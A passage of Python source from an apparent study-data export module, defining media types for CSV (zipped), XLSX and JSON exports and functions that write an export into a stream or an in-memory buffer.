FORMATS: dict[str, tuple[str, str]] = {
    "csv": ("application/zip", "zip"),
    "xlsx": ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
    "json": ("application/json", "json"),
}
"""Each export format's media type and file extension (CSV downloads as a zip)."""


def write_export(export: Export, format_name: str, stream: IO[bytes]) -> tuple[str, str]:
    """Write the downloadable file of ``export`` in ``format_name`` into ``stream``;
    return its media type and file name.

    Raises ``KeyError`` for an unknown format, and :class:`TooLargeForSpreadsheet`
    (having written nothing) for a workbook that a spreadsheet could not hold.
    """
    media_type, extension = FORMATS[format_name]
    if format_name == "csv":
        write_csv_zip(export, stream)
    elif format_name == "xlsx":
        write_xlsx(export, stream)
    else:
        write_json(export, stream)
    return media_type, f"{export.study}-export.{extension}"


def export_file(export: Export, format_name: str) -> tuple[bytes, str, str]:
    """One downloadable file of the export, in memory: (content, media type, file name).
    For small exports and tests; the downloads write into a temporary file
    (:func:`write_export`)."""
    buffer = io.BytesIO()
    media_type, name = write_export(export, format_name, buffer)
    return buffer.getvalue(), media_type, name
